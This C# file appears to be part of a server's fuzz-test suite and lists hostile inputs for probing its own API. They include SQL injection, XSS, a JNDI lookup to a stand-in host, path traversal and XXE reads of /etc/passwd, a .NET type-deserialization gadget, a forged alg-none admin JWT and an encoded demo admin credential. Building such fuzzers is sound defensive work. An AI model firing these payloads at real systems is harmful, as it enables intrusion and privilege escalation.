using System.Text;

namespace Bpm.Server.Tests.Fuzz;

/// <summary>
/// The malformed and hostile material the fuzzer combines: strings (injection, script, control characters, lone
/// surrogates, huge), JSON values of the wrong type, raw bodies that are not JSON at all, header values.
/// </summary>
internal static class HostileValues
{
    public const string Script = "<script>alert('bpm-fuzz')</script>";

    /// <summary>What a reflected script must never look like in an HTML answer (an unescaped opening tag).</summary>
    public const string ScriptMarker = "<script>alert('bpm-fuzz')";

    /// <summary>Text values: each is sent as a JSON string, a query value, a route segment (escaped) and a header value.</summary>
    public static readonly IReadOnlyList<string> Strings =
    [
        "",
        " ",
        "\t\r\n",
        "' OR 1=1 --",
        "'; DROP TABLE \"TaxpayerRequests\"; --",
        "\" OR \"\"=\"",
        "1; SELECT * FROM \"Users\" WHERE '1'='1",
        "admin'--",
        Script,
        "\"><img src=x onerror=alert(1)>",
        "javascript:alert(1)",
        "{{7*7}}${7*7}<%= 7*7 %>",
        "${jndi:ldap://example.invalid/a}",
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "%00%2e%2e%2f",
        "\0",
        "a\0b",
        "\u0001\u0002\u001b[31m\u007f",
        "\u202eevil\u202c",
        "\u200b\u200d\ufeff",
        "\ud800",
        "\udfff",
        "x\ud800y",
        "😀🧨",
        "ｓｃｒｉｐｔ",
        "ﬃ\u0301\u0301\u0301",
        "%s%n%x{0}{1}",
        "NaN",
        "Infinity",
        "-1",
        "0",
        "-0",
        "2147483648",
        "99999999999999999999999999",
        "1e309",
        "0x7fffffff",
        "true",
        "null",
        "undefined",
        "[]",
        "{}",
        "2026-02-30",
        "2026-13-45T25:61:61Z",
        "0001-01-01",
        "9999-12-31T23:59:59.9999999+14:00",
        "00000000-0000-0000-0000-000000000000",
        "not-a-guid",
        "Hotline12366Fax",
        "Unknown",
        "999",
        new string('长', 5000),
        new string('a', 70_000),
        "9" + new string('0', 400),
    ];

    /// <summary>A string just over the JSON body limit (1 MB): the server must answer 413 or 400, never 5xx.</summary>
    public static string Huge() => new('汉', 400_000);

    /// <summary>Raw JSON values of every type (spliced into a body as a field's value).</summary>
    public static readonly IReadOnlyList<string> JsonValues =
    [
        "null",
        "true",
        "false",
        "0",
        "-1",
        "1.5",
        "-0",
        "2147483648",
        "-9223372036854775809",
        "18446744073709551616",
        "1e309",
        "-1e309",
        "1e-400",
        "[]",
        "[null]",
        "[1,\"a\",{}]",
        "{}",
        "{\"$type\":\"System.IO.FileInfo, System.IO.FileSystem\",\"fileName\":\"/etc/passwd\"}",
        "{\"$ref\":\"#\"}",
        "\"\\ud800\"",
        "\"\\udfff\\ud800\"",
        "\"\\u0000\"",
        "\"a\\u0000b\\u001f\"",
        "\"\\\"\\\\\\/\\b\\f\\n\\r\\t\"",
        string.Concat(Enumerable.Repeat("[", 70)) + string.Concat(Enumerable.Repeat("]", 70)),
        string.Concat(Enumerable.Repeat("{\"a\":", 70)) + "1" + string.Concat(Enumerable.Repeat("}", 70)),
        "[" + string.Join(",", Enumerable.Repeat("\"x\"", 10_000)) + "]",
    ];

    /// <summary>Bodies that are not a JSON object at all, or not JSON, or not UTF-8.</summary>
    public static IEnumerable<(string Name, byte[] Bytes)> RawBodies()
    {
        yield return ("empty", []);
        yield return ("null", "null"u8.ToArray());
        yield return ("array", "[]"u8.ToArray());
        yield return ("string", "\"body\""u8.ToArray());
        yield return ("number", "42"u8.ToArray());
        yield return ("open brace", "{"u8.ToArray());
        yield return ("missing value", "{\"a\":}"u8.ToArray());
        yield return ("trailing comma", "{\"a\":1,}"u8.ToArray());
        yield return ("comment", "{/* c */\"a\":1}"u8.ToArray());
        yield return ("single quotes", "{'a':'b'}"u8.ToArray());
        yield return ("NaN literal", "{\"a\":NaN}"u8.ToArray());
        yield return ("duplicate keys", "{\"a\":1,\"a\":\"x\",\"A\":[]}"u8.ToArray());
        yield return ("two documents", "{}{}"u8.ToArray());
        yield return ("invalid UTF-8", [0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xc3, 0x28, 0xff, 0xfe, 0x22, 0x7d]);
        yield return ("UTF-16 body", Encoding.Unicode.GetBytes("{\"a\":\"b\"}"));
        yield return ("BOM", [0xef, 0xbb, 0xbf, .. "{}"u8.ToArray()]);
        yield return ("NUL bytes", [0, 0, 0, 0]);
        yield return ("lone surrogate escape", "{\"a\":\"\\ud800\"}"u8.ToArray());
        yield return ("deep arrays", Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat("[", 5000)) + string.Concat(Enumerable.Repeat("]", 5000))));
        yield return ("deep objects", Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat("{\"a\":", 3000)) + "1" + string.Concat(Enumerable.Repeat("}", 3000))));
        yield return ("XML", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"u8.ToArray());
        yield return ("form", "a=1&b=%ZZ&c"u8.ToArray());
        yield return ("binary", [.. Enumerable.Range(0, 256).Select(i => (byte)i)]);
    }

    /// <summary>Content types to send a body with: right, wrong, malformed.</summary>
    public static readonly IReadOnlyList<string> ContentTypes =
    [
        "application/json",
        "application/json; charset=utf-8",
        "application/json; charset=klingon",
        "application/json; charset=utf-16",
        "text/plain",
        "application/xml",
        "application/x-www-form-urlencoded",
        "multipart/form-data",
        "multipart/form-data; boundary=",
        "multipart/form-data; boundary=xyz",
        "application/problem+json",
        "*/*",
        "garbage",
        "application/json; boundary=\"",
    ];

    /// <summary>Headers a client could send wrongly: each is tried on every kind of route.</summary>
    public static readonly IReadOnlyList<(string Name, string Value)> Headers =
    [
        ("Accept-Language", "zz-ZZ"),
        ("Accept-Language", "*;q=abc, en;q=-1, zh;q=2"),
        ("Accept-Language", new string('a', 4000)),
        ("Accept-Language", "x-klingon-\u00e9"),
        ("Accept", "application/xml"),
        ("Accept", "text/html;q=0"),
        ("Accept", "*/*;q=abc"),
        ("Idempotency-Key", ""),
        ("Idempotency-Key", new string('k', 5000)),
        ("Idempotency-Key", "' OR 1=1 --"),
        ("X-Api-Key", "wrong"),
        ("X-Api-Key", new string('k', 5000)),
        ("X-Api-Key", "sha256:00"),
        ("Authorization", "Bearer garbage"),
        ("Authorization", "Bearer " + new string('e', 6000)),
        ("Authorization", "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4dC5hZG1pbiIsInJvbGUiOiJBZG1pbmlzdHJhdG9yIn0."),
        ("Authorization", "Basic eHQuYWRtaW46QnBtQDIwMjZkZW1v"),
        ("Cookie", "BpmWeb=garbage; .AspNetCore.Culture=c%3Dxx%7Cuic%3Dyy"),
        ("Cookie", ".AspNetCore.Antiforgery.x=" + new string('z', 3000)),
        ("If-Match", "\"garbage\""),
        ("X-Forwarded-For", "' OR 1=1 --"),
        ("X-HTTP-Method-Override", "DELETE"),
        ("Range", "bytes=999999999-1"),
        ("Content-Encoding", "gzip"),
    ];
}
